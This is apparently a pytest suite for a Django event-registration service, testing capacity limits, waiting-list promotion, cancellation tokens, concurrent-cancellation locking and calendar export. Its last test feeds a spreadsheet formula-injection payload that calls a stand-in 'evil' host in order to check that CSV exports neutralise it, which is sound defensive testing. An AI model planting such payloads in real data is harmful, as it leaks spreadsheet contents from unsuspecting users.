"""Events: capacity, the waiting list and its promotion, public registration, ICS."""

import datetime as dt
import re
import threading
import time

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.utils import timezone
from icalendar import Calendar

from ciodispatch.audit.models import AuditEvent
from ciodispatch.outreach import services
from ciodispatch.outreach.documents import event_ics
from ciodispatch.outreach.models import Registration
from ciodispatch.outreach.services import OutreachError
from tests.conftest import verified_client
from tests.outreach.helpers import event, public_registration

R = Registration.State


def public(event_, name, email):
    return public_registration(event_, name, email)


def ask(event_, name, email):
    return services.request_registration(event_, actor=AnonymousUser(), name=name, email=email)


def test_places_go_first_come_first_served_then_to_the_waiting_list(personas):
    talk = event(personas.office, capacity=2)
    a = services.register(talk, actor=personas.host1)
    b = public(talk, "青木 美咲", "aoki@example.jp")
    c = public(talk, "井上 大輔", "inoue@example.jp")
    d = services.register(talk, actor=personas.host2)
    assert [r.state for r in (a, b, c, d)] == [R.CONFIRMED, R.CONFIRMED, R.WAITLISTED, R.WAITLISTED]
    assert a.name == personas.host1.display_name and a.email == "host1@example.jp"
    assert services.waiting_position(c) == 1 and services.waiting_position(d) == 2


def test_one_registration_per_person(personas):
    talk = event(personas.office, capacity=5)
    services.register(talk, actor=personas.host1)
    with pytest.raises(OutreachError, match="already registered"):
        services.register(talk, actor=personas.host1)
    public(talk, "青木 美咲", "aoki@example.jp")
    # The public gets the same answer again (their mail is sent again), never a second place.
    assert ask(talk, "青木 美咲", "AOKI@example.jp") is None
    assert talk.registrations.count() == 2 and not talk.pending.exists()


def test_a_cancellation_promotes_the_first_person_waiting_and_is_audited(
    personas, mailoutbox, django_capture_on_commit_callbacks
):
    talk = event(personas.office, capacity=1)
    first = services.register(talk, actor=personas.host1)
    waiting1 = public(talk, "青木 美咲", "aoki@example.jp")
    waiting2 = public(talk, "井上 大輔", "inoue@example.jp")
    with pytest.raises(PermissionDenied):  # nobody cancels another's place
        services.cancel_registration(first, actor=personas.host2)
    with django_capture_on_commit_callbacks(execute=True):
        promoted = services.cancel_registration(first, actor=personas.host1)
    assert promoted == waiting1
    waiting1.refresh_from_db()
    waiting2.refresh_from_db()
    assert waiting1.state == R.CONFIRMED and waiting2.state == R.WAITLISTED
    assert talk.confirmed_count() == 1  # the capacity holds
    promotion = AuditEvent.objects.get(
        action="outreach.registration.confirmed", object_id=str(waiting1.pk)
    )
    assert promotion.changes == {"state": ["waitlisted", "confirmed"], "freed_by": first.pk}
    assert mailoutbox[-1].to == ["aoki@example.jp"]
    assert "confirmed" in mailoutbox[-1].subject


def test_leaving_the_waiting_list_promotes_nobody(personas):
    talk = event(personas.office, capacity=1)
    services.register(talk, actor=personas.host1)
    waiting1 = public(talk, "青木 美咲", "aoki@example.jp")
    waiting2 = public(talk, "井上 大輔", "inoue@example.jp")
    assert services.cancel_registration(waiting1, actor=None, token=waiting1.token) is None
    waiting2.refresh_from_db()
    assert waiting2.state == R.WAITLISTED and talk.confirmed_count() == 1


def test_the_cancellation_link_needs_its_secret(personas):
    talk = event(personas.office, capacity=1)
    place = public(talk, "青木 美咲", "aoki@example.jp")
    with pytest.raises(OutreachError, match="not valid"):
        services.cancel_registration(place, actor=AnonymousUser(), token="guess")
    services.cancel_registration(place, actor=AnonymousUser(), token=place.token)
    place.refresh_from_db()
    assert place.state == R.CANCELLED
    with pytest.raises(OutreachError, match="already cancelled"):
        services.cancel_registration(place, actor=AnonymousUser(), token=place.token)


def test_no_registration_for_a_draft_cancelled_or_past_event(personas):
    draft = event(personas.office, publish=False)
    with pytest.raises(PermissionDenied):
        services.register(draft, actor=personas.host1)
    cancelled = event(personas.office)
    services.cancel_event(cancelled, actor=personas.office, reason="講師の都合")
    with pytest.raises(PermissionDenied):
        services.register(cancelled, actor=personas.host1)
    past = event(personas.office, days_ahead=-3)
    with pytest.raises(PermissionDenied):
        ask(past, "青木 美咲", "aoki@example.jp")


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"place": "", "online": False}, "place, or hold the event online"),
        ({"capacity": 0}, "at least 1"),
        ({"kind": "party"}, "kind of event"),
    ],
)
def test_an_event_must_say_where_and_how_many(personas, overrides, message):
    with pytest.raises(OutreachError, match=message):
        event(personas.office, **overrides)


def test_an_event_ends_after_it_starts_and_only_the_office_creates_events(personas):
    start = timezone.now() + dt.timedelta(days=3)
    with pytest.raises(OutreachError, match="end after it starts"):
        event(personas.office, starts_at=start, ends_at=start)
    with pytest.raises(PermissionDenied):
        event(personas.host1)


def test_public_registration_needs_a_name_and_an_address(personas):
    talk = event(personas.office)
    with pytest.raises(OutreachError, match="name"):
        ask(talk, " ", "aoki@example.jp")
    with pytest.raises(OutreachError, match="valid e-mail"):
        ask(talk, "青木 美咲", "aoki")


def test_the_calendar_file_describes_the_event(personas):
    talk = event(personas.office, online=True, online_url="https://meet.example.jp/secret")
    calendar = Calendar.from_ical(event_ics(talk, url="https://x.example.jp/events/1/"))
    entry = next(iter(calendar.walk("VEVENT")))
    assert str(entry["summary"]) == talk.title
    assert entry.decoded("dtstart") == talk.starts_at.astimezone(dt.UTC).replace(microsecond=0)
    assert "佐賀県庁" in str(entry["location"]) and "オンライン" in str(entry["location"])
    assert "meet.example.jp/secret" not in event_ics(talk, url="u").decode()
    services.cancel_event(talk, actor=personas.office, reason="台風接近のため")
    talk.refresh_from_db()
    assert b"STATUS:CANCELLED" in event_ics(talk, url="u")


def test_a_stale_cancellation_promotes_nobody_a_second_time(personas):
    talk = event(personas.office, capacity=1)
    first = public(talk, "A", "a@example.jp")
    public(talk, "B", "b@example.jp")
    public(talk, "C", "c@example.jp")
    page = Registration.objects.get(pk=first.pk)
    services.cancel_registration(first, actor=AnonymousUser(), token=first.token)
    with pytest.raises(OutreachError, match="already cancelled"):
        services.cancel_registration(page, actor=AnonymousUser(), token=page.token)
    with pytest.raises(OutreachError, match="already cancelled"):
        services.cancel_registration(page, actor=personas.office)
    states = dict(talk.registrations.values_list("name", "state"))
    assert states == {"A": R.CANCELLED, "B": R.CONFIRMED, "C": R.WAITLISTED}


def test_no_promotion_beyond_the_capacity(personas):
    talk = event(personas.office, capacity=1)
    first = public(talk, "A", "a@example.jp")
    second = public(talk, "B", "b@example.jp")
    public(talk, "C", "c@example.jp")
    # Over-full already (as two racing promotions used to leave it): a cancellation fills
    # no place beyond the capacity.
    Registration.objects.filter(pk=second.pk).update(state=R.CONFIRMED)
    assert services.cancel_registration(first, actor=personas.office) is None
    assert dict(talk.registrations.values_list("name", "state"))["C"] == R.WAITLISTED


@pytest.mark.django_db(transaction=True)
def test_two_cancellations_of_one_place_at_once_promote_one_person(personas, monkeypatch):
    """PostgreSQL only: SQLite serialises writers anyway (and shares no rows between threads
    in the test database)."""
    if connection.vendor != "postgresql":
        pytest.skip("row locks need PostgreSQL")
    talk = event(personas.office, capacity=1)
    first = public(talk, "A", "a@example.jp")
    public(talk, "B", "b@example.jp")
    public(talk, "C", "c@example.jp")
    holding, release = threading.Event(), threading.Event()
    compare = services.secrets.compare_digest

    def hold_the_lock_once(a, b):
        # Called under the event lock: the first caller keeps it until the second waits.
        if not holding.is_set():
            holding.set()
            release.wait(10)
        return compare(a, b)

    monkeypatch.setattr(services.secrets, "compare_digest", hold_the_lock_once)
    errors = []

    def cancel():
        try:
            services.cancel_registration(first, actor=AnonymousUser(), token=first.token)
        except OutreachError as exc:
            errors.append(str(exc))
        finally:
            connection.close()

    one, two = threading.Thread(target=cancel), threading.Thread(target=cancel)
    one.start()
    assert holding.wait(10)
    two.start()
    deadline = time.monotonic() + 10
    with connection.cursor() as cursor:
        while time.monotonic() < deadline:  # until the second waits for the lock
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
                "AND datname = current_database()"
            )
            if cursor.fetchone()[0]:
                break
            time.sleep(0.05)
    release.set()
    one.join(15)
    two.join(15)
    states = dict(talk.registrations.values_list("name", "state"))
    assert states == {"A": R.CANCELLED, "B": R.CONFIRMED, "C": R.WAITLISTED}
    assert len(errors) == 1  # the second was told the registration is already cancelled


def test_the_public_gets_the_meeting_address_and_an_absolute_link_when_confirmed(
    personas, client, mailoutbox, django_capture_on_commit_callbacks, settings
):
    settings.SITE_URL = "https://cio.example.jp"
    secret = "https://meet.example.jp/secret"
    talk = event(personas.office, capacity=1, place="", online=True, online_url=secret)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/events/{talk.pk}/register/",
            {"name": "青木 美咲", "email": "aoki@example.jp", "consent": "on"},
        )
    (asking,) = mailoutbox
    # Before the address confirms, nothing is reserved and no meeting address is given.
    assert secret not in asking.body and not Registration.objects.exists()
    confirm = re.search(r"https://cio\.example\.jp(/events/confirm/\S+/)", asking.body).group(1)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(confirm)
        public(talk, "待機 太郎", "wait@example.jp")
    place = Registration.objects.get(email="aoki@example.jp")
    link = f"https://cio.example.jp/events/cancel/{place.token}/"
    confirmed, waiting = mailoutbox[1], mailoutbox[3]  # each after its confirmation mail
    assert secret in confirmed.body and link in confirmed.body
    assert secret not in waiting.body and "https://cio.example.jp/events/cancel/" in waiting.body
    # The page after registering says only that a mail is on its way; the link shows it.
    assert secret not in client.get(response["Location"]).content.decode()
    assert secret in client.get(f"/events/cancel/{place.token}/").content.decode()
    waiter = Registration.objects.get(email="wait@example.jp")
    assert secret not in client.get(f"/events/cancel/{waiter.token}/").content.decode()

    # The person waiting is promoted: the promotion mail carries the address too.
    with django_capture_on_commit_callbacks(execute=True):
        services.cancel_registration(place, actor=AnonymousUser(), token=place.token)
    assert secret in mailoutbox[-1].body and mailoutbox[-1].to == ["wait@example.jp"]
    assert secret in client.get(f"/events/cancel/{waiter.token}/").content.decode()
    assert secret not in client.get(f"/events/cancel/{place.token}/").content.decode()


def test_a_cancelled_event_stays_readable_with_its_calendar_file_drafts_do_not(personas, client):
    talk = event(personas.office, capacity=5)
    services.register(talk, actor=personas.host1)
    services.cancel_event(talk, actor=personas.office, reason="台風")
    assert client.get(f"/events/{talk.pk}/").status_code == 200
    ics = client.get(f"/events/{talk.pk}/event.ics")
    assert ics.status_code == 200 and b"STATUS:CANCELLED" in ics.content
    draft = event(personas.office, publish=False)
    assert client.get(f"/events/{draft.pk}/event.ics").status_code in (302, 403, 404)
    assert client.get(f"/events/{draft.pk}/").status_code in (302, 403, 404)


def test_the_roster_csv_neutralises_formulas(personas, client):
    talk = event(personas.office, capacity=5)
    public(talk, '=HYPERLINK("http://evil/"&A1,"x")', "e@example.jp")
    office = verified_client(client, personas.office)
    text = office.get(f"/events/{talk.pk}/roster/?format=csv").content.decode("utf-8-sig")
    assert "\r\n\"'=HYPERLINK" in text
    assert "\r\n=HYPERLINK" not in text and '\r\n"=HYPERLINK' not in text
